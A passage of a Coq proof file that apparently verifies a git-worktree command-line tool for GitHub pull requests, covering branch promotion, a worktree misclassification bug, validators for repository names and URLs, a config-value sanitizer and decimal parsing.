        as [prs|] eqn:Hpulls.
      + destruct (promoteRun_not_one branch type repo prs m Hvalid Ht Htype Hrepo
                    Hclient Hpulls) as [Hnone Hmany].
        destruct prs as [|pr1 [|pr2 prs]].
        * right. eexists. now apply Hnone.
        * left. exists (github.Number pr1). right. split; [reflexivity|]. eauto.
        * right. eexists. apply Hmany. cbn [length]. lia.
      + right. unfold cli.promoteRun. rewrite Hvalid. unfold bind at 1.
        rewrite Ht', Hneq, Z.eqb_refl.
        unfold spec.pullsOfBranchPath in Hpulls.
        cbv beta iota zeta delta [bind ret ask]. rewrite Hrepo.
        cbv beta iota zeta. rewrite Hclient. cbv beta iota zeta delta [negb].
        rewrite Hpulls. eexists. reflexivity.
    - left. exists prNumber. left. now split. }
  destruct Hnumber as [[number Hnum]|Hfailed]; [|now right].
  destruct (client_Get_pull (spec.pullPath repo number) (world m)) as [pr|] eqn:Hpull.
  { left. exists type, repo, number, pr. repeat split; assumption. }
  right. unfold cli.promoteRun. rewrite Hvalid. unfold bind at 1. rewrite Ht', Hneq.
  unfold spec.pullPath in Hpull.
  destruct Hnum as [[Hnz ->] | (-> & pr0 & Hpulls & ->)].
  - apply Z.eqb_neq in Hnz. rewrite Hnz.
    cbv beta iota zeta delta [bind ret ask]. rewrite Hrepo.
    cbv beta iota zeta. rewrite Hclient. cbv beta iota zeta delta [negb].
    rewrite Hpull. eexists. reflexivity.
  - unfold spec.pullsOfBranchPath in Hpulls. rewrite Z.eqb_refl.
    cbv beta iota zeta delta [bind ret ask]. rewrite Hrepo.
    cbv beta iota zeta. rewrite Hclient. cbv beta iota zeta delta [negb].
    rewrite Hpulls. cbv beta iota zeta.
    rewrite Hrepo. cbv beta iota zeta. rewrite Hclient. cbv beta iota zeta.
    rewrite Hpull. eexists. reflexivity.
Qed.

(** C5, as amended.  Promotion fails, with the state of the run left as
    it is, when the type of the branch resolves to "pr"; it does so when
    the type key is absent and the PR-number key holds a value that is
    not blank.  Otherwise promotion succeeds exactly when the branch name
    is valid, the type resolves to something other than "pr" ("branch"
    or unset in particular), the repository and a REST client are
    available, a number is given or, with none given (0), the branch has
    exactly one open pull request, the pull request of that number is
    fetched, the git root is found and each of the three writes succeeds;
    what it has run is then the three writes of the type "pr", the number
    and the title, in this order.  With no number given and no open pull
    request of the branch, or more than one, promotion fails and leaves
    the state as it is. *)
Theorem promotion_by_type (branch : string) (prNumber : Z) (m : Machine World) :
  (fst (GetWorktreeType branch m) = Ok "pr" ->
   exists e, cli.promoteRun branch prNumber m = (Some e, m))
  /\ (forall root value,
        fst (git.GetRoot m) = Ok root ->
        spec.keyAbsent root (spec.typeKey branch) (world m) ->
        spec.keyHolds root (spec.prNumberKey branch) value (world m) ->
        value <> "" ->
        fst (GetWorktreeType branch m) = Ok "pr")
  /\ (forall m',
        cli.promoteRun branch prNumber m = (None, m')
        <-> exists type repo number pr root,
              validate.BranchName branch = None
              /\ fst (GetWorktreeType branch m) = Ok type
              /\ type <> "pr"
              /\ repository_Current (world m) = Some repo
              /\ api_DefaultRESTClient (world m) = true
              /\ spec.promotedNumber (world m) repo branch prNumber number
              /\ client_Get_pull (spec.pullPath repo number) (world m) = Some pr
              /\ fst (git.GetRoot m) = Ok root
              /\ spec.runsOk (spec.promotionCmds root branch number (github.Title pr))
                   (world m) = true
              /\ world m'
                 = spec.worldAfter (spec.promotionCmds root branch number (github.Title pr))
                     (world m)
              /\ gitlog m'
                 = gitlog m ++ spec.promotionCmds root branch number (github.Title pr))
  /\ (forall repo prs,
        prNumber = 0%Z ->
        repository_Current (world m) = Some repo ->
        client_Get_pulls (spec.pullsOfBranchPath repo branch) (world m) = Some prs ->
        length prs <> 1 ->
        (exists e, cli.promoteRun branch prNumber m = (Some e, m))
        /\ (forall type,
              validate.BranchName branch = None ->
              fst (GetWorktreeType branch m) = Ok type ->
              type <> "pr" ->
              api_DefaultRESTClient (world m) = true ->
              cli.promoteRun branch prNumber m
              = (Some (Errorf
                         (match prs with
                          | [] => "no open PR found for branch " +:+ branch
                                  +:+ ". Please create a PR first or specify the PR number"
                          | _ => "multiple PRs found for branch " +:+ branch
                                 +:+ ". Please specify the PR number"
                          end)), m))).
Proof.
  split; [|split; [|split]].
  - intros Ht. apply GetWorktreeType_eq in Ht.
    unfold cli.promoteRun.
    destruct (validate.BranchName branch); [eexists; reflexivity|].
    unfold bind at 1. rewrite Ht. simpl. eexists. reflexivity.
  - intros root value. apply GetWorktreeType_by_number.
  - intros m'. split.
    + intros E.
      destruct (promoteRun_lookup branch prNumber m)
        as [(type & repo & number & pr & Hvalid & Ht & Htype & Hrepo & Hclient & Hnum
             & Hpull) | [e He]]; [|congruence].
      destruct (GetWorktreeType_root _ _ _ Ht) as [root Hroot].
      rewrite (promoteRun_found _ _ _ _ _ _ _ Hvalid Ht Htype Hrepo Hclient Hnum Hpull) in E.
      pose proof (PromoteToPR_outcome branch (github.Title pr) root number m Hroot) as Hout.
      destruct (PromoteToPR branch number (github.Title pr) m) as [[err|] m1];
        [discriminate|].
      injection E as <-. destruct Hout as (Hok & Hw & Hl).
      exists type, repo, number, pr, root. repeat split; assumption.
    + intros (type & repo & number & pr & root & Hvalid & Ht & Htype & Hrepo & Hclient
              & Hnum & Hpull & Hroot & Hok & Hw & Hl).
      rewrite (promoteRun_found _ _ _ _ _ _ _ Hvalid Ht Htype Hrepo Hclient Hnum Hpull).
      pose proof (PromoteToPR_outcome branch (github.Title pr) root number m Hroot) as Hout.
      destruct (PromoteToPR branch number (github.Title pr) m) as [[err|] m1].
      * exfalso. destruct Hout as (before & args & after & Hc & Hb & Hfail & _).
        rewrite Hc, (runsOk_stops before after args _ Hb Hfail) in Hok. discriminate.
      * destruct Hout as (_ & Hw' & Hl'). f_equal.
        destruct m1 as [w1 l1], m' as [w' l']. cbn [world gitlog] in *. congruence.
  - intros repo prs -> Hrepo Hpulls Hlen. split.
    + destruct (promoteRun_lookup branch 0 m)
        as [(type & repo' & number & pr & _ & _ & _ & Hrepo' & _ & Hnum & _) | He];
        [|exact He].
      exfalso. rewrite Hrepo in Hrepo'. injection Hrepo' as <-.
      destruct Hnum as [[Hnz _] | (_ & pr0 & Hone & _)]; [now apply Hnz|].
      rewrite Hpulls in Hone. injection Hone as ->. now apply Hlen.
    + intros type Hvalid Ht Htype Hclient.
      destruct (promoteRun_not_one branch type repo prs m Hvalid Ht Htype Hrepo Hclient
                  Hpulls) as [Hnone Hmany].
      destruct prs as [|pr1 [|pr2 prs]].
      * now apply Hnone.
      * now destruct Hlen.
      * apply Hmany. cbn [length]. lia.
Qed.

End PromoteFacts.

(** The branch feature-x of the simulated world, promoted to pull
    request 43; and again, once it is a PR worktree.  Promoted with no
    number given it fails, as it has no open pull request. *)
Lemma promotion_by_type_witness :
  let m := sim.start (sim.repoWorld ∅) in
  let m' := snd (cli.promoteRun "feature-x" 43 m) in
  cli.promoteRun "feature-x" 43 m = (None, m')
  /\ spec.commandsRun m m'
     = [ ["-C"; "/w/my-repo"; "config"; "branch.feature-x.gh-worktree-type"; "pr"];
         ["-C"; "/w/my-repo"; "config"; "branch.feature-x.gh-worktree-pr-number"; "43"];
         ["-C"; "/w/my-repo"; "config"; "branch.feature-x.gh-worktree-pr-title"; "Tidy up"] ]
  /\ (exists e, cli.promoteRun "feature-x" 43 m' = (Some e, m'))
  /\ cli.promoteRun "feature-x" 0 m
     = (Some (Errorf ("no open PR found for branch feature-x. "
                      +:+ "Please create a PR first or specify the PR number")), m).
Proof.
  intros m m'.
  destruct (promotion_by_type "feature-x" 43 m) as (_ & _ & Hpromote & _).
  destruct (promotion_by_type "feature-x" 0 m) as (_ & _ & _ & Hlookup).
  destruct (promotion_by_type "feature-x" 43 m') as (Hreject & _ & _ & _).
  split; [|split; [|split]].
  - apply (proj2 (Hpromote m')).
    exists "", sim.acme, 43%Z, sim.pr43, "/w/my-repo".
    split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
    split; [discriminate|]. split; [vm_compute; reflexivity|].
    split; [vm_compute; reflexivity|].
    split; [left; split; [discriminate | reflexivity]|].
    split; [vm_compute; reflexivity|]. split; [vm_compute; reflexivity|].
    split; [vm_compute; reflexivity|]. split; vm_compute; reflexivity.
  - vm_compute. reflexivity.
  - apply Hreject. vm_compute. reflexivity.
  - refine (proj2 (Hlookup sim.acme [] eq_refl _ _ _) "" _ _ _ _);
      try (vm_compute; reflexivity); discriminate.
Defined.

(** C5 as it is claimed fails twice.  In its parenthesis: with no type
    key and a PR-number key that is present with an empty value, the type
    is unset and promotion succeeds.  And after the dash: the type of the
    branch feature-x is unset, but promoted with no number given it has no
    open pull request, and promotion fails. *)
Lemma promotion_as_claimed_fails :
  ~ spec.promotionRejectsNumbered "feature-x" 43
      (sim.start (sim.repoWorld {[ "branch.feature-x.gh-worktree-pr-number" := "" ]}))
  /\ ~ spec.promotionSucceedsUntyped "feature-x" 0 (sim.start (sim.repoWorld ∅)).
Proof.
  split.
  - intros Hc. apply (Hc "/w/my-repo").
    + vm_compute. reflexivity.
    + vm_compute. reflexivity.
    + exists (strings.bytes [10]). vm_compute. reflexivity.
    + vm_compute. reflexivity.
  - intros Hc. specialize (Hc "" ltac:(vm_compute; reflexivity) ltac:(now right)).
    vm_compute in Hc. discriminate.
Qed.

(** ** Classification of worktrees (C6) *)

Section ListingFacts.
Import strings worktree.

(** The base name my-repo-pr12-fix starts with my-repo- and is not of the
    form my-repo-pr<digits>. *)
Lemma pr12_fix_is_no_pr_name : ~ spec.prWorktreeName "my-repo" "my-repo-pr12-fix".
Proof.
  intros (digits & _ & Hd & E).
  change "my-repo-pr12-fix" with ("my-repo" +:+ "-pr" +:+ "12-fix") in E.
  do 2 apply str_app_inv_head in E. subst digits. discriminate.
Qed.

(** C6 at a failing input.  In the simulated repository my-repo, the
    worktree /w/my-repo-pr12-fix was made for the local branch pr12-fix
    (its path is the one GeneratePathForBranch gives) and is recorded as
    of type "branch".  Its base name is not of the form
    my-repo-pr<digits>, and DetectWorktreeType calls it a branch
    worktree; yet ListBranchWorktrees leaves it out and ListPRWorktrees
    lists it as pull request 12, because Sscanf reads the number 12 from
    the front of "12-fix". *)
Theorem pr_prefixed_branch_listed_as_pr :
  let m := sim.start (sim.repoWorld {[ spec.typeKey "pr12-fix" := "branch" ]}) in
  let paths r :=
    match r with
    | Ok worktrees => Ok (map (fun wt => (Path wt, PRNumber wt)) worktrees)
    | Err e => Err e
    end in
  fst (GeneratePathForBranch "my-repo" "pr12-fix" m) = Ok "/w/my-repo-pr12-fix"
  /\ filepath.Base "/w/my-repo-pr12-fix" = "my-repo-pr12-fix"
  /\ HasPrefix "my-repo-pr12-fix" "my-repo-" = true
  /\ ~ spec.prWorktreeName "my-repo" "my-repo-pr12-fix"
  /\ fst (GetWorktreeType "pr12-fix" m) = Ok "branch"
  /\ fst (DetectWorktreeType "/w/my-repo-pr12-fix" m) = "branch"
  /\ paths (fst (ListBranchWorktrees "my-repo" m))
     = Ok [("/w/my-repo-feature-x", 0%Z)]
  /\ paths (fst (ListPRWorktrees "my-repo" m))
     = Ok [("/w/my-repo-pr42", 42%Z); ("/w/my-repo-pr12-fix", 12%Z)].
Proof.
  intros m paths.
  repeat split; try (vm_compute; reflexivity).
  apply pr12_fix_is_no_pr_name.
Qed.

End ListingFacts.

(* ===================================================================== *)
(** * Part III: further properties of the code                            *)
(* ===================================================================== *)

(** ** The validators of repository names and URLs *)

Section RepoNameFacts.
Import strings.

Lemma Index_app_Some (a sep b : string) : Index (a +:+ sep +:+ b) sep <> None.
Proof.
  induction a as [|c a IH]; rewrite Index_unfold.
  - simpl. now rewrite HasPrefix_app.
  - destruct (HasPrefix _ sep); [discriminate|].
    simpl. destruct (Index (a +:+ sep +:+ b) sep); [discriminate | contradiction].
Qed.

Lemma Contains_false_iff (s sep : string) :
  Contains s sep = false <-> forall a b, s <> a +:+ sep +:+ b.
Proof.
  unfold Contains. split.
  - intros E a b ->. pose proof (Index_app_Some a sep b) as N.
    destruct (Index _ sep); [discriminate | contradiction].
  - intros N. destruct (Index s sep) as [i|] eqn:E; [|reflexivity].
    apply Index_Some in E as (a & b & -> & _). now destruct (N a b).
Qed.

Lemma repo_class_bytes (c : ascii) :
  regexp.inClass
    [("a", "z"); ("A", "Z"); ("0", "9"); (".", "."); ("_", "_"); ("-", "-")]%char c
  = spec.repoNameChar c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma validRepoName_matches (name : string) :
  regexp.MatchString validate.validRepoName name
  = negb (String.eqb name "") && all spec.repoNameChar name.
Proof.
  unfold validate.validRepoName. rewrite MatchString_Plus_class.
  f_equal. apply all_ext, repo_class_bytes.
Qed.

Lemma RepoName_accepted (name : string) :
  validate.RepoName name = None ->
  name <> "" /\ all spec.repoNameChar name = true.
Proof.
  unfold validate.RepoName. rewrite validRepoName_matches.
  destruct (String.eqb_spec name "") as [->|Hne]; [discriminate|].
  destruct (_ <? _)%nat; [discriminate|].
  destruct (Contains name ".."); [discriminate|]. simpl.
  destruct (all spec.repoNameChar name); [auto | discriminate].
Qed.

(** X1. RepoName accepts exactly the names that are not empty, hold at
    most 100 bytes, have no two dots in a row and only bytes of
    [A-Za-z0-9._-]; what it rejects, it rejects with a plain message. *)
Theorem RepoName_accepts_exactly (name : string) :
  (validate.RepoName name = None <-> spec.wellFormedRepoName name)
  /\ (validate.RepoName name = None
      \/ exists msg, validate.RepoName name = Some (Errorf msg)).
Proof.
  unfold validate.RepoName, spec.wellFormedRepoName.
  rewrite validRepoName_matches.
  destruct (String.eqb_spec name "") as [->|Hne].
  { split; [|right; eauto]. split; [discriminate | now intros [N _]]. }
  destruct (Nat.ltb_spec 100 (len name)) as [Hlong|Hlen].
  { split; [|right; eauto]. split; [discriminate | intros (_ & L & _); lia]. }
  destruct (Contains name "..") eqn:Hdots.
  { split; [|right; eauto]. split; [discriminate|].
    intros (_ & _ & N & _). apply Contains_false_iff in N. congruence. }
  pose proof (proj1 (Contains_false_iff _ _) Hdots) as Hnodots. simpl.
  destruct (all spec.repoNameChar name) eqn:Hall; simpl.
  - split; [|now left]. split; [intros _; repeat split; auto | reflexivity].
  - split; [|right; eauto]. split; [discriminate | now intros (_ & _ & _ & ?)].
Qed.

End RepoNameFacts.

Section URLFacts.
Import strings.

Lemma unescape_no_percent (mode : url.encoding) (s : string) :
  mode <> url.encodeHost ->
  all (fun c => negb (Ascii.eqb c "%")) s = true ->
  url.unescape mode s = Some s.
Proof.
  intros Hm. induction s as [|c s IH]; [reflexivity|].
  cbn [all url.unescape]. intros [Hc Hs]%andb_true_iff.
  apply negb_true_iff in Hc. rewrite Hc, (IH Hs).
  destruct mode; try reflexivity. contradiction.
Qed.

Lemma pathByte_avoids (x : ascii) (p : string) :
  spec.pathByte x = false ->
  all spec.pathByte p = true ->
  all (fun c => negb (Ascii.eqb c x)) p = true.
Proof.
  intros Hx. apply all_impl. intros c Hc.
  apply negb_true_iff, Ascii.eqb_neq. intros ->. congruence.
Qed.

Lemma Index_after_literal (lit p : string) (x : ascii) :
  all (fun c => negb (Ascii.eqb c x)) lit = true ->
  spec.pathByte x = false ->
  all spec.pathByte p = true ->
  Index (lit +:+ p) (String x "") = None.
Proof.
  intros Hlit Hx Hp. apply Index_absent_byte. rewrite str_all_app, Hlit.
  now apply pathByte_avoids.
Qed.

(** A URL made of [https://github.com/] and a path of plain bytes parses
    to the scheme https, no user information and the host github.com. *)
Lemma github_path_parses (p : string) :
  all spec.pathByte p = true ->
  url.Parse ("https://github.com/" +:+ p)
  = Ok {| url.Scheme := "https"; url.User := None; url.Host := "github.com" |}.
Proof.
  intros Hp.
  assert (Hparse : url.parse ("https://github.com/" +:+ p)
    = Some {| url.Scheme := "https"; url.User := None; url.Host := "github.com" |}).
  { unfold url.parse.
    replace (all (fun c => negb (url.isCTL c)) ("https://github.com/" +:+ p)) with true.
    2:{ symmetry. rewrite str_all_app. apply andb_true_iff. split; [reflexivity|].
        apply (all_impl spec.pathByte); [|exact Hp].
        intros c Hc. unfold spec.pathByte in Hc.
        now apply andb_true_iff in Hc as [[[Hc _]%andb_true_iff _]%andb_true_iff _]. }
    cbn [negb].
    change (url.getScheme 0 ("https://github.com/" +:+ p) ("https://github.com/" +:+ p))
      with (Some ("https", "//github.com/" +:+ p)).
    change (String.eqb ("https://github.com/" +:+ p) "*") with false.
    cbn [mbind option_bind].
    assert (Hq : Cut ("//github.com/" +:+ p) "?" = ("//github.com/" +:+ p, "", false)).
    { unfold Cut. now rewrite Index_after_literal. }
    rewrite Hq. cbn [fst].
    change (HasPrefix ("//github.com/" +:+ p) "/") with true.
    change (HasPrefix ("//github.com/" +:+ p) "//") with true.
    change (ToLower "https") with "https".
    change (drop 2 ("//github.com/" +:+ p)) with ("github.com/" +:+ p).
    cbn [negb andb orb String.eqb Ascii.eqb Bool.eqb].
    assert (Hi : Index ("github.com/" +:+ p) "/" = Some 10%nat).
    { do 10 (rewrite Index_unfold;
             match goal with |- context [HasPrefix ?s "/"] =>
               change (HasPrefix s "/") with false end;
             cbn [String.append fmap option_fmap option_map]).
      rewrite Index_unfold. cbn [HasPrefix Ascii.eqb Bool.eqb andb].
      now rewrite HasPrefix_nil. }
    rewrite Hi.
    change (take 10 ("github.com/" +:+ p)) with "github.com".
    change (drop 10 ("github.com/" +:+ p)) with ("/" +:+ p).
    change (url.parseAuthority "github.com") with (Some (@None string, "github.com")).
    cbn [mbind option_bind].
    rewrite unescape_no_percent; [reflexivity | discriminate |].
    rewrite str_all_app. now rewrite (pathByte_avoids "%"%char p). }
  unfold url.Parse, Cut. rewrite Index_after_literal by auto. now rewrite Hparse.
Qed.

(** A URL of this form passes the check of the validator. *)
Lemma github_path_valid (p : string) :
  all spec.pathByte p = true -> validate.URL ("https://github.com/" +:+ p) = None.
Proof.
  intros Hp. unfold validate.URL. rewrite (github_path_parses p Hp). reflexivity.
Qed.

Lemma repoNameChar_pathByte (c : ascii) :
  spec.repoNameChar c = true -> spec.pathByte c = true.
Proof. destruct c as [[] [] [] [] [] [] [] []]; vm_compute; congruence. Qed.

(** X2. The URL of the push remote is made of an owner and a repository
    name that have passed RepoName; such a URL always passes the URL
    check, so cmdsForMissingRemote never fails with "invalid push remote
    URL". *)
Theorem push_remote_url_never_rejected (owner repo : string) :
  validate.RepoName owner = None ->
  validate.RepoName repo = None ->
  validate.URL (spec.forkURL owner repo) = None
  /\ forall c pr baseRemote opts path branch e,
       worktree.cmdsForMissingRemote c pr baseRemote opts path branch
       <> Err (Wrap "invalid push remote URL" e).
Proof.
  intros Ho Hr. split.
  - apply RepoName_accepted in Ho, Hr. unfold spec.forkURL.
    apply github_path_valid. rewrite !str_all_app, andb_true_iff. split.
    + apply (all_impl spec.repoNameChar); [exact repoNameChar_pathByte | apply Ho].
    + apply (all_impl spec.repoNameChar); [exact repoNameChar_pathByte | apply Hr].
  - clear. intros c pr baseRemote opts path branch e.
    unfold worktree.cmdsForMissingRemote.
    destruct (validate.PRNumber _); [discriminate|].
    destruct (validate.BranchName branch); [discriminate|].
    destruct (validate.BranchName _); [discriminate|].
    destruct (worktree.Detach opts); [discriminate|].
    destruct (_ && _); [|discriminate].
    destruct (validate.RepoName (github.Name _)) eqn:Hn; [discriminate|].
    destruct (validate.RepoName (github.Login _)) eqn:Hl; [discriminate|].
    apply RepoName_accepted in Hn, Hl.
    rewrite github_path_valid; [discriminate|].
    rewrite !str_all_app, andb_true_iff. split.
    + apply (all_impl spec.repoNameChar); [exact repoNameChar_pathByte | apply Hl].
    + apply (all_impl spec.repoNameChar); [exact repoNameChar_pathByte | apply Hn].
Qed.

End URLFacts.

(** alice/my-repo, the fork of pull request 42. *)
Lemma push_remote_url_never_rejected_witness :
  validate.RepoName "alice" = None
  /\ validate.RepoName "my-repo" = None
  /\ validate.URL "https://github.com/alice/my-repo" = None.
Proof.
  assert (Ho : validate.RepoName "alice" = None) by reflexivity.
  assert (Hr : validate.RepoName "my-repo" = None) by reflexivity.
  split; [exact Ho|]. split; [exact Hr|].
  exact (proj1 (push_remote_url_never_rejected "alice" "my-repo" Ho Hr)).
Defined.

(** ** What the sanitizer returns *)

Section TrimFacts.
Import strings.

Lemma TrimSpace_no_leading (s : string) : leading whiteSpace (TrimSpace s) = None.
Proof.
  unfold TrimSpace.
  destruct (TrimRightSpace_prefix (TrimLeftSpace s)) as [u Hu].
  apply (leading_prefix _ _ u). rewrite <- Hu. apply TrimLeftSpace_done.
Qed.

Lemma TrimSpace_no_trailing (s : string) :
  leading (map rev whiteSpace) (rev (TrimSpace s)) = None.
Proof.
  unfold TrimSpace, TrimRightSpace. rewrite str_rev_involutive.
  apply trimLeading_done; [apply whiteSpace_rev_nonempty | now rewrite len_rev].
Qed.

(** What TrimSpace returns neither starts nor ends with white space. *)
Lemma TrimSpace_trimmed (s w : string) :
  In w whiteSpace ->
  HasPrefix (TrimSpace s) w = false /\ HasSuffix (TrimSpace s) w = false.
Proof.
  intros Hw. split.
  - now apply (proj1 (leading_None _ _) (TrimSpace_no_leading s)).
  - unfold HasSuffix.
    apply (proj1 (leading_None _ _) (TrimSpace_no_trailing s)).
    now apply in_map.
Qed.

End TrimFacts.

Section SanitizerOutput.
Import strings.

(** X3. What the sanitizer returns holds none of the bytes it replaces
    (NUL, newline, carriage return, tab and the twelve shell special
    characters) and neither starts nor ends with white space. *)
Theorem SanitizeForGitConfig_output_clean (value : string) :
  all (spec.avoids (map fst spec.sanitizerRules)) (validate.SanitizeForGitConfig value) = true
  /\ forall w, In w whiteSpace ->
       HasPrefix (validate.SanitizeForGitConfig value) w = false
       /\ HasSuffix (validate.SanitizeForGitConfig value) w = false.
Proof.
  rewrite Sanitize_by_rules. split.
  - apply TrimSpace_all, sanitized_avoids.
  - intros w. apply TrimSpace_trimmed.
Qed.

(** X4. The values the sanitizer leaves as they are, are exactly those
    that hold none of the replaced bytes and have no white space around
    them. *)
Theorem SanitizeForGitConfig_fixed_points (value : string) :
  validate.SanitizeForGitConfig value = value
  <-> all (spec.avoids (map fst spec.sanitizerRules)) value = true
      /\ TrimSpace value = value.
Proof.
  split.
  - intros E. split.
    + rewrite <- E, Sanitize_by_rules. apply TrimSpace_all, sanitized_avoids.
    + rewrite <- E at 2. rewrite <- E at 1.
      rewrite Sanitize_by_rules. apply TrimSpace_idem.
  - intros [Ha Ht]. rewrite Sanitize_by_rules, applyRules_fix; assumption.
Qed.

End SanitizerOutput.

(** ** Decimal numbers, printed and read back *)

Section PlainFacts.
Import strings.

Lemma leading_plain (seqs : list string) (c : ascii) (s : string) :
  forallb spec.startsOdd seqs = true ->
  spec.plainByte c = true ->
  leading seqs (String c s) = None.
Proof.
  intros Hseqs Hc. apply leading_None. intros w Hw.
  rewrite forallb_forall in Hseqs. specialize (Hseqs w Hw).
  destruct w as [|x w]; [discriminate|]. cbn [HasPrefix].
  destruct (Ascii.eqb_spec c x) as [->|]; [|reflexivity].
  simpl in Hseqs. now rewrite Hc in Hseqs.
Qed.

Lemma all_head_rev (p : ascii -> bool) (s : string) :
  all p s = true -> s <> "" -> exists c t, rev s = String c t /\ p c = true.
Proof.
  intros Ha Hne. rewrite <- all_rev in Ha.
  destruct (rev s) as [|c t] eqn:E.
  - apply (f_equal rev) in E. rewrite str_rev_involutive in E. contradiction.
  - exists c, t. split; [reflexivity|]. now apply andb_true_iff in Ha as [? _].
Qed.

(** A string of plain bytes has no white space to trim. *)
Lemma TrimSpace_plain (s : string) : all spec.plainByte s = true -> TrimSpace s = s.
Proof.
  intros Ha. destruct s as [|c s]; [reflexivity|].
  assert (Hl : TrimLeftSpace (String c s) = String c s).
  { apply trimLeading_fix, leading_plain; [reflexivity|].
    now apply andb_true_iff in Ha as [? _]. }
  unfold TrimSpace. rewrite Hl. unfold TrimRightSpace.
  destruct (all_head_rev _ _ Ha) as (x & t & E & Hx); [discriminate|].
  rewrite E, trimLeading_fix by (now apply leading_plain).
  rewrite <- E. apply str_rev_involutive.
Qed.

End PlainFacts.

Section ItoaFacts.
Import strings.

Lemma digitChar_digit (d : nat) :
  (d < 10)%nat ->
  strconv.isDigit (strconv.digitChar d) = true
  /\ strconv.digitVal (strconv.digitChar d) = Z.of_nat d.
Proof.
  intros Hd. do 10 (destruct d as [|d]; [split; reflexivity|]). lia.
Qed.

Lemma isDigit_plain (c : ascii) : strconv.isDigit c = true -> spec.plainByte c = true.
Proof. destruct c as [[] [] [] [] [] [] [] []]; vm_compute; congruence. Qed.

Lemma isDigit_no_sign (c : ascii) :
  strconv.isDigit c = true -> Ascii.eqb c "-" = false /\ Ascii.eqb c "+" = false.
Proof. destruct c as [[] [] [] [] [] [] [] []]; vm_compute; auto; congruence. Qed.

Lemma parseDigits_app (s t : string) (a : Z) :
  strconv.parseDigits a (s +:+ t)
  = match strconv.parseDigits a s with
    | Some v => strconv.parseDigits v t
    | None => None
    end.
Proof.
  revert a. induction s as [|c s IH]; intros a; [reflexivity|].
  simpl. destruct (strconv.isDigit c); [apply IH | reflexivity].
Qed.

Lemma digitsOf_acc (fuel n : nat) (acc : string) :
  strconv.digitsOf fuel n acc = strconv.digitsOf fuel n "" +:+ acc.
Proof.
  revert n acc. induction fuel as [|fuel IH]; intros n acc; [reflexivity|].
  cbn [strconv.digitsOf]. cbv zeta. destruct (n <? 10)%nat; [reflexivity|].
  rewrite IH, (IH _ (String _ "")), str_app_assoc. reflexivity.
Qed.

Lemma digitsOf_digits (fuel n : nat) :
  (n < fuel)%nat ->
  strconv.digitsOf fuel n "" <> ""
  /\ all strconv.isDigit (strconv.digitsOf fuel n "") = true
  /\ strconv.parseDigits 0 (strconv.digitsOf fuel n "") = Some (Z.of_nat n).
Proof.
  revert n. induction fuel as [|fuel IH]; intros n Hn; [lia|].
  cbn [strconv.digitsOf]. cbv zeta.
  destruct (digitChar_digit (n mod 10)) as [Hd Hv];
    [apply Nat.mod_upper_bound; lia|].
  destruct (Nat.ltb_spec n 10) as [Hsmall|Hbig].
  - split; [discriminate|]. cbn [all strconv.parseDigits]. rewrite Hd, Hv.
    split; [reflexivity|]. f_equal. rewrite Nat.mod_small by lia. lia.
  - assert (Hq : (n / 10 < fuel)%nat).
    { pose proof (Nat.div_lt n 10). lia. }
    destruct (IH _ Hq) as (Hne & Hall & Hparse).
    rewrite digitsOf_acc. split; [|split].
    + intros E. destruct (strconv.digitsOf fuel (n / 10) ""); [contradiction | discriminate].
    + rewrite str_all_app, Hall. cbn [all]. now rewrite Hd.
    + rewrite parseDigits_app, Hparse. cbn [strconv.parseDigits]. rewrite Hd, Hv. f_equal.
      pose proof (Nat.div_mod_eq n 10). lia.
Qed.

Lemma Atoi_digits (s : string) (v : Z) :
  s <> "" ->
  all strconv.isDigit s = true ->
  strconv.parseDigits 0 s = Some v ->
  (0 <= v <= strconv.maxInt)%Z ->
  strconv.Atoi s = Ok v.
Proof.
  intros Hne Ha Hp Hv. unfold strconv.Atoi, strconv.ParseInt.
  destruct s as [|c s]; [contradiction|].
  pose proof Ha as [Hc _]%andb_true_iff.
  destruct (isDigit_no_sign c Hc) as [-> ->].
  unfold strconv.parseMagnitude. rewrite Hp.
  replace (strconv.minInt <=? v)%Z with true
    by (symmetry; apply Z.leb_le; unfold strconv.minInt; lia).
  replace (v <=? strconv.maxInt)%Z with true by (symmetry; apply Z.leb_le; lia).
  reflexivity.
Qed.

(** Printing an integer and reading it back gives the integer. *)
Lemma Atoi_Itoa (n : Z) :
  (strconv.minInt <= n <= strconv.maxInt)%Z -> strconv.Atoi (strconv.Itoa n) = Ok n.
Proof.
  intros Hn. unfold strconv.Itoa. cbv zeta.
  destruct (digitsOf_digits (S (Z.to_nat (Z.abs n))) (Z.to_nat (Z.abs n)))
    as (Hne & Hall & Hparse); [lia|].
  destruct (Z.ltb_spec n 0) as [Hneg|Hpos].
  - unfold strconv.Atoi, strconv.ParseInt.
    change (Ascii.eqb "-" "-") with true. cbv iota.
    unfold strconv.parseMagnitude. rewrite Hparse.
    destruct (strconv.digitsOf _ _ "") as [|c ds]; [contradiction|].
    replace (- Z.of_nat (Z.to_nat (Z.abs n)))%Z with n by lia.
    replace (strconv.minInt <=? n)%Z with true by (symmetry; apply Z.leb_le; lia).
    replace (n <=? strconv.maxInt)%Z with true by (symmetry; apply Z.leb_le; lia).
    reflexivity.
  - assert (En : Z.of_nat (Z.to_nat (Z.abs n)) = n) by lia.
    rewrite En in Hparse. apply Atoi_digits; auto. lia.
Qed.

Lemma Itoa_plain (n : Z) : all spec.plainByte (strconv.Itoa n) = true.
Proof.
  unfold strconv.Itoa. cbv zeta.
  destruct (digitsOf_digits (S (Z.to_nat (Z.abs n))) (Z.to_nat (Z.abs n)))
    as (_ & Hall & _); [lia|].
  apply (all_impl _ _ _ isDigit_plain) in Hall.
  destruct (n <? 0)%Z; [|exact Hall]. simpl. exact Hall.
Qed.

End ItoaFacts.

Section DecimalSelector.
Import strings.

(** X5. A number printed in decimal is a selector for itself exactly when
    it is a valid pull-request number. *)
Theorem ParsePRNumber_of_decimal (n : Z) :
  github.ParsePRNumber (strconv.Itoa n) = Ok n <-> spec.inRange n.
Proof.
  split.
  - intros E. now apply ParsePRNumber_Ok_iff in E as [? _].
  - intros Hr. apply ParsePRNumber_Ok_iff. split; [exact Hr|]. left.
    unfold spec.bareInteger. rewrite TrimSpace_plain by apply Itoa_plain.
    apply Atoi_Itoa. unfold spec.inRange in Hr.
    unfold strconv.minInt, strconv.maxInt. lia.
Qed.

End DecimalSelector.

(** ** The naming test of the listings *)

Section ScanFacts.
Import strings.

Lemma scanNumber_digits (digits rest : string) :
  all strconv.isDigit digits = true ->
  match rest with String c _ => strconv.isDigit c = false | "" => True end ->
  fmt.scanNumber (digits +:+ rest) = (digits, rest).
